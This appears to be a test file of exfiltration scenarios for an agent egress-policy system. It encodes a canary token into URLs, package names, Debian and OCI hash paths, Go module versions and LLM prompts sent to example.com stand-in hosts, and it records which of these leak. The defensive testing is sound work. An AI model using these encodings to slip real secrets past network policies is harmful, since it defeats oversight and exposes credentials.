# Little at a time, over what is granted. No grant stops this; a limit does. Each scenario
# says how many bits get out before it: five for each letter of a token of 130 bits.

scenario "pages-of-any-name" {
  describe = "a page's name is free: twelve letters a request, until two requests are used up"
  cases    = ["EXF-06"]
  policy   = "policies/docs-any-page.hcl"
  attempt {
    for_each = pieces(canary.token, 12)
    http { url = "https://docs.example.com/manual/${item.value}.html" }
  }
  expect {
    verdict = "deny"
    reason  = "limit_exceeded"
    bits    = 120
    arrives = ["GET https://docs.example.com/manual/*.html"]
  }
}

scenario "pages-of-a-list" {
  describe = "the same where the policy lists the pages: nothing gets out but which ones were asked for"
  cases    = ["EXF-06"]
  policy   = "policies/docs.hcl"
  attempt {
    for_each = pieces(canary.token, 12)
    http { url = "https://docs.example.com/manual/v1/${item.value}.html" }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
  }
}

scenario "page-with-a-query" {
  describe = "a documentation site has a search: any text, in a GET"
  cases    = ["EXF-06"]
  policy   = "policies/docs.hcl"
  for_each = {
    search   = "https://docs.example.com/search?q="
    query    = "https://docs.example.com/manual/v1/index.html?"
    deeper   = "https://docs.example.com/manual/v1/index.html/"
    version  = "https://docs.example.com/manual/"
    language = "https://docs.example.com/manual/v1/index.html?hl="
    fragment = "https://docs.example.com/manual/v1/%23"
  }
  attempt {
    http { url = "${each.value}${canary.token}" }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "names-of-packages" {
  describe = "packages of any name are granted, but two requests: the third, whose name is the secret, is too many"
  cases    = ["EXF-10"]
  policy   = "policies/docs-any-page.hcl"
  attempt {
    for_each = ["left-pad", "is-number", canary.token]
    http { url = "https://npm.example.com/${item.value}" }
  }
  expect {
    verdict = "deny"
    reason  = "limit_exceeded"
    leak    = none
    arrives = ["GET https://npm.example.com/left-pad", "GET https://npm.example.com/is-number"]
  }
}

scenario "name-of-one-package" {
  describe = "a known risk: without a lockfile one request to the registry carries a whole token in a package's name"
  cases    = ["EXF-10"]
  policy   = "policies/npm.hcl"
  attempt {
    http { url = "https://npm.example.com/${canary.token}" }
  }
  expect {
    leak    = ["token"]
    bits    = 130
    arrives = ["GET https://npm.example.com/*"]
  }
}

scenario "hash-of-an-index" {
  describe = "a known risk: an index of a Debian archive is asked for by its hash, 256 free bits"
  cases    = ["EXF-06"]
  policy   = "policies/apt.hcl"
  attempt {
    http { url = "http://apt.example.com/debian/dists/bookworm/main/binary-amd64/by-hash/SHA256/${hex(canary.token)}000000000000" }
  }
  expect {
    leak    = ["token"]
    bits    = 130
    arrives = ["GET http://apt.example.com/debian/dists/bookworm/main/binary-amd64/by-hash/SHA256/*"]
  }
}

scenario "version-of-a-module" {
  describe = "a known risk: the version of a granted module is free, and its proxy reads it"
  cases    = ["EXF-10"]
  policy   = "policies/go.hcl"
  attempt {
    http { url = "https://go.example.com/example.com/acme/@v/v1.0.0-${canary.token}.info" }
  }
  expect {
    leak    = ["token"]
    bits    = 130
    arrives = ["GET https://go.example.com/example.com/acme/@v/*"]
  }
}

scenario "digest-of-a-layer" {
  describe = "a known risk: a layer of the granted image is asked for by its digest, 256 free bits"
  cases    = ["EXF-06"]
  policy   = "policies/ci.hcl"
  attempt {
    http { url = "https://oci.example.com/v2/acme/base/blobs/sha256:${hex(canary.token)}000000000000" }
  }
  expect {
    leak    = ["token"]
    bits    = 130
    arrives = ["GET https://oci.example.com/v2/acme/base/blobs/*"]
  }
}

scenario "text-of-a-prompt" {
  describe = "a known risk: what the agent may ask its model is free text, in the account of the company"
  cases    = ["EXF-06"]
  policy   = "policies/llm.hcl"
  attempt {
    http {
      method  = "POST"
      url     = "https://llm.example.com/v1/messages"
      headers = { Content-Type = "application/json", X-Api-Key = env.ANTHROPIC_API_KEY }
      body    = json({ model = "model-1", max_tokens = 9, messages = [{ role = "user", content = "what is ${canary.token}?" }] })
    }
  }
  expect {
    leak    = ["token"]
    bits    = 130
    arrives = ["POST https://llm.example.com/v1/messages"]
  }
}

scenario "number-of-an-issue" {
  describe = "a known risk: numbers of issues are free; nineteen digits a request, and the host is the company's own"
  cases    = ["EXF-06"]
  policy   = "policies/triage.hcl"
  attempt {
    http {
      url     = "https://api.example.com/repos/acme/app/issues/7318349394477056/comments"
      headers = { Authorization = "Bearer ${env.BOT_TOKEN}", X-Note = canary.token }
    }
  }
  expect {
    leak    = none
    arrives = ["GET https://api.example.com/repos/acme/app/issues/7318349394477056/comments"]
  }
}

scenario "reads-that-never-end" {
  describe = "a client that goes on asking: the limit of a grant is the limit of what it can say"
  cases    = ["EXF-06"]
  policy   = "policies/docs-any-page.hcl"
  attempt {
    for_each = ["aaaa", "bbbb", "cccc", "dddd"]
    http {
      url     = "https://docs.example.com/manual/${item.value}.html"
      headers = { X-Note = canary.token }
    }
  }
  expect {
    verdict = "deny"
    reason  = "limit_exceeded"
    leak    = none
    arrives = ["GET https://docs.example.com/manual/aaaa.html", "GET https://docs.example.com/manual/bbbb.html"]
  }
}
